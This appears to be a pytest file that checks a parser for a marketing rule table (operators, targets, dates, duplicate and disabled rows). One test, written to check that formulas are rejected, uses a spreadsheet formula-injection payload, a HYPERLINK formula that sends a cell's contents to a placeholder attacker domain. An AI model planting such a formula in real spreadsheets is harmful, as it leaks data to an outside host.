"""The rule table contract (issue #2) and every row error class of the rule poller (issue #3)."""

from __future__ import annotations

from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from pia.core.events import Event
from pia.rules.model import Comparison, RuleType
from pia.rules.table import ParseResult, RowIssue, RuleTable, Severity, TableError, parse_rules, parse_table
from tests.conftest import CASE_COURSE as COURSE
from tests.conftest import CASE_GREENBUTTON as GREEN
from tests.conftest import CASE_PURCHASE as PURCHASE
from tests.conftest import RULE_HEADER, rule_row


def event_with(**attributes: str) -> Event:
    return Event("u", "greenbutton", datetime(2026, 1, 1, tzinfo=UTC), attributes, {})


def parse(*rows: dict[str, object]) -> ParseResult:
    return parse_rules(enumerate(rows, start=2))


def with_cells(base: tuple[str, ...], **changes: str) -> dict[str, object]:
    row: dict[str, object] = dict(rule_row(*base))
    for key, value in changes.items():
        row[key.replace("_", "-") if key in ("Operator_C", "Target_C", "Operator_V", "Target_V") else key] = (
            value
        )
    return row


def only_error(result: ParseResult) -> RowIssue:
    assert len(result.errors) == 1, result.errors
    return result.errors[0]


def test_the_three_readme_cases_parse_to_the_documented_rules() -> None:
    result = parse(rule_row(*GREEN), rule_row(*COURSE), rule_row(*PURCHASE))
    assert result.issues == ()
    green, course, purchase = result.rules
    assert (green.output_name, green.reset, green.count_condition) == (
        "trk_greenbutton",
        False,
        green.count_condition,
    )
    assert green.count_condition is not None and green.count_condition.op is Comparison.GT
    assert green.count_condition.target == 5 and green.sum_condition is None
    assert course.output_name == "trk_course_completed" and course.reset is True
    assert purchase.rule_type is RuleType.DATE and purchase.output_name == "trk_date_purchase"
    assert (purchase.start_date, purchase.finish_date) == (date(2021, 1, 1), date(2021, 2, 1))
    assert purchase.sum_condition is not None and purchase.sum_condition.target == Decimal(500)
    assert purchase.count_condition is None


def test_columns_are_matched_by_name_in_any_order_ignoring_case_spaces_and_dashes() -> None:
    shuffled = {
        " finishdate ": "9999-99-99",
        "TARGET_V": "999",
        "operator c": "greater",
        "Event Name": "greenbutton",
        "ruletype": "Aggregator",
        "attributename": "na",
        "Attribute-Value": "na",
        "Target-C": "5",
        "operator-v": "na",
        "Reset When Reach Target": "no",
        "Start_Date": "9999-99-99",
        "Unrelated": "ignored",
    }
    result = parse(shuffled)
    assert result.issues == ()
    assert parse(rule_row(*GREEN)).rules[0].rule_id == result.rules[0].rule_id


def test_a_table_missing_a_required_column_fails_as_a_whole() -> None:
    headers = tuple(h for h in RULE_HEADER if h != "Operator-V")
    rows = ((2, {h: v for h, v in rule_row(*GREEN).items() if h != "Operator-V"}),)
    with pytest.raises(TableError, match="Operator-V"):
        parse_table(RuleTable("rules.csv", headers, rows))


def test_parse_table_accepts_the_header_in_any_order_without_key() -> None:
    headers = tuple(reversed(RULE_HEADER))
    result = parse_table(RuleTable("rules.csv", headers, ((2, rule_row(*GREEN)),)))
    assert [r.output_name for r in result.rules] == ["trk_greenbutton"]


@pytest.mark.parametrize(
    ("word", "op"),
    [
        ("greater", Comparison.GT),
        ("smaller", Comparison.LT),
        ("less", Comparison.LT),
        ("equal", Comparison.EQ),
        ("greater_or_equal", Comparison.GE),
        ("less_or_equal", Comparison.LE),
        ("not_equal", Comparison.NE),
        (">", Comparison.GT),
        (">=", Comparison.GE),
        ("<", Comparison.LT),
        ("<=", Comparison.LE),
        ("=", Comparison.EQ),
        ("!=", Comparison.NE),
        ("Greater", Comparison.GT),
    ],
)
def test_every_operator_spelling(word: str, op: Comparison) -> None:
    (rule,) = parse(with_cells(GREEN, Operator_C=word)).rules
    assert rule.count_condition is not None and rule.count_condition.op is op


def test_unknown_operator_names_row_column_and_the_choices() -> None:
    result = parse(rule_row(*GREEN), rule_row(*COURSE), with_cells(PURCHASE, Operator_V="bigger"))
    issue = only_error(result)
    assert str(issue).startswith(
        'row 4, Operator-V: "bigger" is not an operator; use greater, smaller, equal'
    )
    assert "na" in issue.message
    assert [r.output_name for r in result.rules] == ["trk_greenbutton", "trk_course_completed"]


def test_non_numeric_target_is_an_error_and_decimals_are_kept_exactly() -> None:
    bad = only_error(parse(with_cells(GREEN, Target_C="five")))
    assert (bad.row, bad.column) == (2, "Target-C") and '"five" is not a number' in bad.message
    (rule,) = parse(with_cells(PURCHASE, Target_V="500.10")).rules
    assert rule.sum_condition is not None and str(rule.sum_condition.target) == "500.10"


def test_a_decimal_comma_is_rejected_but_a_thousands_separator_is_read() -> None:
    issue = only_error(parse(with_cells(PURCHASE, Target_V="1,5")))
    assert issue.column == "Target-V" and '"1,5" is not a number' in issue.message
    (rule,) = parse(with_cells(PURCHASE, Target_V="1,500.25")).rules
    assert rule.sum_condition is not None and rule.sum_condition.target == Decimal("1500.25")


def test_an_operator_without_a_target_is_an_error() -> None:
    issue = only_error(parse(with_cells(GREEN, Target_C="")))
    assert issue.column == "Target-C" and "a number is required" in issue.message


def test_a_fractional_count_target_is_only_a_warning() -> None:
    result = parse(with_cells(GREEN, Target_C="2.5"))
    assert len(result.rules) == 1
    assert [(w.column, w.severity) for w in result.warnings] == [("Target-C", Severity.WARNING)]


def test_both_operators_na_is_invalid_but_a_999_placeholder_next_to_na_is_fine() -> None:
    issue = only_error(parse(with_cells(GREEN, Operator_C="na")))
    assert "both Operator-C and Operator-V are na" in issue.message
    (rule,) = parse(with_cells(GREEN, Target_V="999")).rules
    assert rule.sum_condition is None


@pytest.mark.parametrize("placeholder", ["na", "999", "NA", ""])
def test_na_and_999_mean_no_attribute_filter(placeholder: str) -> None:
    (rule,) = parse(with_cells(GREEN, AttributeName=placeholder, AttributeValue=placeholder)).rules
    assert rule.attribute_name is None and rule.matches(event_with(color="green"))


def test_attribute_filter_is_exact_and_case_sensitive_and_names_the_output() -> None:
    (rule,) = parse(with_cells(GREEN, AttributeName="color", AttributeValue="Green")).rules
    assert rule.output_name == "trk_greenbutton_Green"
    assert rule.matches(event_with(color="Green"))
    assert not rule.matches(event_with(color="green"))


def test_a_half_attribute_filter_is_an_error() -> None:
    issue = only_error(parse(with_cells(GREEN, AttributeName="color")))
    assert issue.column == "AttributeValue"


@pytest.mark.parametrize(
    ("start", "finish", "column", "text"),
    [
        ("2021/01/01", "2021-02-01", "StartDate", "is not a date; write YYYY-MM-DD"),
        ("2021-01-01", "01-02-2021", "FinishDate", "is not a date; write YYYY-MM-DD"),
        ("2021-02-30", "2021-03-01", "StartDate", "is not a calendar date"),
        ("2021-03-01", "2021-02-01", "StartDate", "is after FinishDate"),
        ("9999-99-99", "2021-02-01", "StartDate", "a date rule needs StartDate and FinishDate"),
    ],
)
def test_date_errors(start: str, finish: str, column: str, text: str) -> None:
    issue = only_error(parse(with_cells(PURCHASE, StartDate=start, FinishDate=finish)))
    assert issue.column == column and text in issue.message


def test_aggregator_rules_take_the_9999_placeholder_and_ignore_real_dates_with_a_warning() -> None:
    (rule,) = parse(with_cells(GREEN, StartDate="2021-01-01", FinishDate="2021-02-01")).rules
    assert rule.start_date is None and rule.finish_date is None
    assert [w.column for w in parse(with_cells(GREEN, StartDate="2021-01-01")).warnings] == ["StartDate"]


def test_reset_must_be_yes_or_no_for_aggregator_rules() -> None:
    issue = only_error(parse(with_cells(GREEN, ResetWhenReachTarget="maybe")))
    assert issue.column == "ResetWhenReachTarget" and "yes or no" in issue.message


def test_unknown_rule_type() -> None:
    issue = only_error(parse(with_cells(GREEN, RuleType="counter")))
    assert issue.column == "RuleType" and "aggregator or date" in issue.message


def test_an_empty_event_name_is_an_error() -> None:
    issue = only_error(parse(with_cells(GREEN, EventName="  ")))
    assert (issue.row, issue.column) == (2, "EventName") and issue.message.startswith("empty")


@pytest.mark.parametrize("name", ["_session.start", "trk_greenbutton"])
def test_system_and_output_events_cannot_be_counted(name: str) -> None:
    assert only_error(parse(with_cells(GREEN, EventName=name))).column == "EventName"


def test_identical_rows_are_both_rejected_as_duplicates() -> None:
    result = parse(rule_row(*GREEN), rule_row(*GREEN), rule_row(*COURSE))
    assert [(e.row, e.column) for e in result.errors] == [(2, "OutputName"), (3, "OutputName")]
    assert "also written by row 3" in result.errors[0].message
    assert [r.output_name for r in result.rules] == ["trk_course_completed"]


def test_conflicting_output_names_reject_both_rules() -> None:
    renamed = with_cells(COURSE, OutputName="trk_greenbutton")
    result = parse(rule_row(*GREEN), renamed)
    assert {e.row for e in result.errors} == {2, 3}
    assert result.rules == ()


def test_a_disabled_row_is_paused_and_conflicts_with_nothing() -> None:
    paused = with_cells(GREEN, Enabled="no", Target_C="10")
    result = parse(rule_row(*GREEN), paused)
    assert result.errors == ()
    assert [r.row for r in result.rules] == [2]
    assert result.disabled_rows == (3,)
    assert [r.row for r in result.paused] == [3]
    assert result.row_numbers == (2, 3)


def test_optional_columns_metric_name_output_name_and_window() -> None:
    row = with_cells(PURCHASE, MetricName="price", OutputName="trk_big_spender", StartDate="", FinishDate="")
    row["Window"] = "last 30 days"
    (rule,) = parse(row).rules
    assert (rule.metric_name, rule.output_name, rule.window_days) == ("price", "trk_big_spender", 30)
    assert rule.window_for(date(2026, 1, 31)) == (date(2026, 1, 2), date(2026, 1, 31))
    bad = dict(row, Window="thirty days")
    assert only_error(parse(bad)).column == "Window"


def test_formula_text_is_plain_text_and_rejected_where_it_would_reach_pinpoint() -> None:
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
    result = parse(
        with_cells(GREEN, EventName=formula), with_cells(COURSE, OutputName="=1+1"), rule_row(*PURCHASE)
    )
    event_issue, output_issue = result.errors
    assert (event_issue.row, event_issue.column) == (2, "EventName")
    assert event_issue.message.startswith('"=HYPERLINK("https://evil.example/?x="&A1,"click")" looks like')
    assert "never evaluated" in event_issue.message
    assert (output_issue.row, output_issue.column) == (3, "OutputName")
    assert [r.output_name for r in result.rules] == ["trk_date_purchase"]


def test_a_formula_in_the_derived_key_column_is_ignored_and_equal_sign_operator_still_works() -> None:
    row = with_cells(GREEN, Operator_C="=")
    row["Key"] = "=CONCATENATE(B2,E2,F2)"
    (rule,) = parse(row).rules
    assert rule.count_condition is not None and rule.count_condition.op is Comparison.EQ


def test_rule_id_ignores_row_position_but_changes_with_any_defining_cell() -> None:
    moved = parse_rules([(9, rule_row(*GREEN))]).rules[0]
    original = parse(rule_row(*GREEN)).rules[0]
    edited = parse(with_cells(GREEN, Target_C="6")).rules[0]
    assert moved.rule_id == original.rule_id
    assert edited.rule_id != original.rule_id


def test_blank_rows_are_skipped_and_not_reported() -> None:
    blank = dict.fromkeys(RULE_HEADER, "")
    result = parse_rules([(2, rule_row(*GREEN)), (3, blank), (4, rule_row(*COURSE))])
    assert result.rows_read == 2 and result.row_numbers == (2, 4) and result.issues == ()


def test_xlsx_typed_cells_are_read_as_the_text_a_marketer_sees() -> None:
    row: dict[str, object] = dict(rule_row(*PURCHASE))
    row.update(
        {"Target-V": 500.0, "StartDate": date(2021, 1, 1), "Target-C": None, "FinishDate": "2021-02-01"}
    )
    row["Enabled"] = True
    (rule,) = parse(row).rules
    assert rule.sum_condition is not None and rule.sum_condition.target == 500
    assert rule.start_date == date(2021, 1, 1)


def test_with_warnings_keeps_everything_else_and_orders_by_row() -> None:
    result = parse(rule_row(*GREEN), with_cells(COURSE, Operator_C="bigger"), with_cells(GREEN, Enabled="no"))
    extended = result.with_warnings([RowIssue(2, "EventName", "near miss", Severity.WARNING)])
    assert extended.rules == result.rules and extended.paused == result.paused
    assert extended.row_numbers == result.row_numbers
    assert [i.row for i in extended.issues] == [2, 3]


@pytest.mark.parametrize(
    ("column", "base"),
    [("RuleType", GREEN), ("Target-C", GREEN), ("StartDate", PURCHASE), ("AttributeValue", GREEN)],
)
def test_a_formula_gets_one_clear_message_on_its_own_cell(column: str, base: tuple[str, ...]) -> None:
    row: dict[str, object] = dict(rule_row(*base))
    row[column] = "=TODAY()+1"
    if column == "AttributeValue":
        row["AttributeName"] = "color"
    issue = only_error(parse(row))
    assert issue.column == column and "looks like a spreadsheet formula" in issue.message
